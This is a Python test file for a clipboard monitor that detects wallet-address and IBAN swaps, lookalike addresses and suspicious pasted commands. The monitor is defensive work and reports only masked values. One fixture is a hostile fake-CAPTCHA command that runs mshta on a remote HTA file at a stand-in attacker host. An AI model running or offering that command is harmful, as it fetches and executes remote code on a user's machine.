"""What happened to the clipboard, change by change."""

from __future__ import annotations

import json
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from companion.domain.feedback import State
from companion.domain.observation import Kind
from companion.perception import pasting
from companion.settings import Clipboard
from companion.sources.clipboard import (
    INSTANT_S,
    LOOKALIKE_S,
    MAX_WAITING,
    SOON_S,
    Board,
    ClipboardSource,
    Recognisers,
    Swap,
    ends,
    look_alike,
)
from tests.support.sinks import Sink

RECOGNISERS = Recognisers(pasting.account, pasting.form, pasting.commands)
MINE = "0x52908400098527886E0F7030069857D2E4169EE7"
THEIRS = "0x8617E340B3D01FA5F11F306F4090FD50E238070D"
LOOKALIKE = "0x529084ffffffffffffffffffffffffffff169ee7"
IBAN = "GB29 NWBK 6016 1331 9268 19"
OTHER_IBAN = "DE89 3704 0044 0532 0130 00"
COMMAND = "mshta https://evil.invalid/x.hta # I am not a robot"


def test_an_account_that_is_replaced_at_once_is_a_swap() -> None:
    board = Board(RECOGNISERS)
    assert board.changed(MINE, False, 0.0) is None
    found = board.changed(THEIRS, False, 0.2)
    assert isinstance(found, Swap)
    assert (found.before, found.after, found.entity) == (MINE.lower(), THEIRS.lower(), "wallet")
    assert not found.alike
    assert not found.again


def test_an_iban_of_another_country_is_of_the_same_sort() -> None:
    board = Board(RECOGNISERS)
    board.changed(IBAN, False, 0.0)
    assert isinstance(board.changed(OTHER_IBAN, False, 0.3), Swap)


@pytest.mark.parametrize(
    ("second", "after"),
    [
        (THEIRS, SOON_S + 0.1),  # time enough to copy it by hand
        (MINE.lower(), 0.1),  # the same, written otherwise
        (IBAN, 0.1),  # another sort
        ("hello", 0.1),
        (LOOKALIKE, LOOKALIKE_S + 1),
    ],
)
def test_what_the_person_may_have_copied_is_no_swap(second: str, after: float) -> None:
    board = Board(RECOGNISERS)
    board.changed(MINE, False, 0.0)
    assert board.changed(second, False, after) is None


def test_what_was_copied_in_between_ends_it_but_a_moment_of_emptiness_does_not() -> None:
    board = Board(RECOGNISERS)
    board.changed(MINE, False, 0.0)
    board.changed("", False, 0.1)
    assert isinstance(board.changed(THEIRS, False, 0.2), Swap)
    board = Board(RECOGNISERS)
    for between in ("hello", "x" * 30_000):
        board.changed(MINE, False, 0.0)
        board.changed(between, False, 0.1)
        assert board.changed(THEIRS, False, 0.2) is None


def test_what_we_put_there_ourselves_is_no_swap_but_can_be_swapped() -> None:
    board = Board(RECOGNISERS)
    board.changed(THEIRS, False, 0.0)
    assert board.changed(MINE, True, 0.1) is None
    assert isinstance(board.changed(THEIRS, False, 0.2), Swap)


def test_bare_numbers_have_to_be_quicker_still() -> None:
    board = Board(RECOGNISERS)
    board.changed("12345678", False, 0.0)
    assert board.changed("87654321", False, INSTANT_S + 0.1) is None
    board.changed("12345678", False, 9.0)
    assert isinstance(board.changed("87654321", False, 9.1), Swap)


def test_one_that_looks_like_the_first_counts_for_minutes() -> None:
    board = Board(RECOGNISERS)
    board.changed(MINE, False, 0.0)
    found = board.changed(LOOKALIKE, False, 60.0)
    assert isinstance(found, Swap)
    assert found.alike


def test_the_same_swap_a_second_time_is_noted() -> None:
    board = Board(RECOGNISERS)
    for at, again in ((0.0, False), (30.0, True)):
        board.changed(MINE, False, at)
        found = board.changed(THEIRS, False, at + 0.9)
        assert isinstance(found, Swap)
        assert found.again is again


def test_what_all_of_a_sort_begin_with_makes_none_alike() -> None:
    one, other = "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4", "bc1qrp33g0q5c5txsp9arysrx4k6zdkfs4nce4xj0gdcccefvpy"
    assert not look_alike(one, other)
    assert look_alike(one, "bc1qw508d6qxxxxxxxxxxxxxxxxxxxxxxxxxxv8f3t4")
    assert not look_alike("12345678", "12345678")


def test_commands_are_a_case_and_our_own_copy_of_them_is_not() -> None:
    board = Board(RECOGNISERS)
    assert board.changed(COMMAND, False, 0.0) == {"fetches", "hides", "pretends"}
    assert board.changed(COMMAND, True, 0.0) is None
    assert board.changed("pip install requests", False, 0.0) is None


def test_only_the_ends_of_what_the_person_copied_are_told() -> None:
    assert ends(MINE) == "0x5290…169EE7"
    source, sink = ClipboardSource(RECOGNISERS), Sink()
    source.start(sink.submit, sink.report, {})
    source.changed(IBAN)
    source.changed("a private note")
    source.changed(IBAN)
    source.changed(OTHER_IBAN)
    try:
        assert sink.wait_items(1)
        time.sleep(0.3)
        assert len(sink.items) == 1
        assert sink.items[0].kind is Kind.CLIPBOARD
        told = json.loads(sink.items[0].data or b"")
        assert told["before"] == "GB29NW…926819"
        assert told["after"] == "DE89370400440532013000"
        assert "60161331" not in (sink.items[0].data or b"").decode()
        assert "private" not in (sink.items[0].data or b"").decode()
    finally:
        source.stop()


def test_the_same_case_is_one_item_a_day() -> None:
    source = ClipboardSource(RECOGNISERS)
    for _ in range(3):
        source.changed(COMMAND, at=1_800_000_000.0)
    source.changed(COMMAND, at=1_800_090_000.0)
    assert len(source.held()) == 2


def test_a_flood_of_cases_is_bounded() -> None:
    source = ClipboardSource(RECOGNISERS)
    for number in range(1_000):
        source.changed(f"{COMMAND} {number}")
    assert len(source.held()) == MAX_WAITING


def test_where_nobody_sees_the_clipboard_it_says_so() -> None:
    source, sink = ClipboardSource(RECOGNISERS, "clipboard.no_window"), Sink()
    source.start(sink.submit, sink.report, {})
    assert sink.wait_state(State.WAITING, "clipboard.no_window")
    source.stop()


def test_it_is_off_until_it_is_switched_on() -> None:
    assert Clipboard().on is False


@given(st.lists(st.sampled_from([MINE, THEIRS, LOOKALIKE, IBAN, COMMAND, "x", ""]), max_size=12), st.floats(0.0, 5.0))
def test_any_course_of_events_is_followed(course: list[str], step: float) -> None:
    board = Board(RECOGNISERS)
    for number, text in enumerate(course):
        found = board.changed(text, False, number * step)
        if isinstance(found, Swap):
            assert found.before != found.after
            assert found.alike or found.seconds < SOON_S
